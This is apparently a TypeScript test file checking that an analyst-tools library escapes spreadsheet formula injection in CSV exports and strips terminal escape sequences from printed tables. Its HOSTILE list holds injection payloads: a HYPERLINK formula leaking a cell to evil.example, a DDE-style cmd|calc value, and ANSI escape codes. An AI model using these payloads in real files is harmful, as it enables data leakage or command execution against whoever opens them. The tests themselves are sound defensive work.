import { escapeSpreadsheetCell, renderCsv, renderTextTable, stripControlCharacters } from '@pallnet/analyst-tools';
import { parse } from 'csv-parse/sync';

/*
 * What the analyst tools write cannot attack the analyst: a name that a spreadsheet would run as
 * a formula is written as text, and a name holding terminal escape sequences is printed without
 * them. Names come from editors of any region, so they are not trusted.
 */

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

it('escapes every formula start with an apostrophe and leaves plain numbers as numbers', () => {
  for (const cell of HOSTILE) expect(escapeSpreadsheetCell(cell)).toBe(`'${cell}`);
  for (const cell of ['-2', '+13', '10.5', '1,5', '0', 'Helse Stavanger', '–', 'a=b']) expect(escapeSpreadsheetCell(cell)).toBe(cell);
});

it('writes hostile unit names into the comparison CSV as text a spreadsheet will not run', () => {
  const table = { headers: ['Enhet', 'Endring'], figureColumns: [1], rows: HOSTILE.map((name, i) => [name, i % 2 ? '-2' : '+13']) };
  const records = parse(renderCsv(table, ';'), { bom: true, delimiter: ';', relax_quotes: false }) as string[][];
  expect(records[0]).toEqual(['Enhet', 'Endring']);
  expect(records.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((name) => `'${name}`));
  expect(records.slice(1).map((row) => row[1])).toEqual(HOSTILE.map((_, i) => (i % 2 ? '-2' : '+13')));
  for (const [cell] of records.slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

it('strips control characters from the printed table, so a name cannot drive the terminal', () => {
  const name = 'Sandnes\u001b[2J\u001b[31m rød\u0007\u009b31m\ttekst';
  expect(stripControlCharacters(name)).toBe('Sandnes[2J[31m rød31m tekst');
  const printed = renderTextTable({ headers: ['Enhet', 'Medlemmer'], figureColumns: [1], rows: [[name, '12']] });
  // The very characters the table must not contain.
  // eslint-disable-next-line no-control-regex
  expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(printed).toContain('Sandnes[2J[31m rød31m tekst');
});
